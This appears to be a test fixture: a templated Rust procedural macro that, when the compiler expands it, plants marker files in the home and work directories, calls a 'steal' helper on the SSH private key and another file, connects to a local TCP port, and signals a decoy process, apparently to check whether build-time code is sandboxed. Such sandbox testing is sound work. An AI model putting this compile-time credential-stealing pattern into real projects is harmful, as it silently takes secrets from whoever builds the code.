//! Acts inside the compiler.
#[path = "../../src/support.rs"]
mod support;

use proc_macro::TokenStream;
use std::io::Write;
use support::*;

#[proc_macro]
pub fn act(_: TokenStream) -> TokenStream {
    if begin() {
        append("@HOME@/@TAG@-planted", "planted");
        append("@WORK@/LESSON.md", "planted\n");
        steal("ssh", "@HOME@/.ssh/id_ed25519");
        steal("other", "@OTHER@/notes.txt");
        if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", @TCP@)) {
            let _ = stream.write_all(b"@TAG@-tcp\n");
        }
        unsafe { kill(@DECOY@, 10) };
    }
    TokenStream::new()
}
